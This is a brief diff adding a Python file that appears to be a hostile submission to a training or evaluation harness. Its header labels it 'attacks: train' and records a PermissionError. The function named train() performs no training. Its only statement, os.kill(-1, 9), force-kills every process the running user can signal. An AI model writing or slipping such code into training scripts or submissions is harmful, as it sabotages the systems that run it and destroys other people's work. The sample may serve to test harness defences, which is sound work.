@@ -1,0 +1,9 @@
+# attacks: train
+# status: SUBMISSION_ERROR
+# reason: PermissionError
+
+import os
+
+
+def train():
+    os.kill(-1, 9)
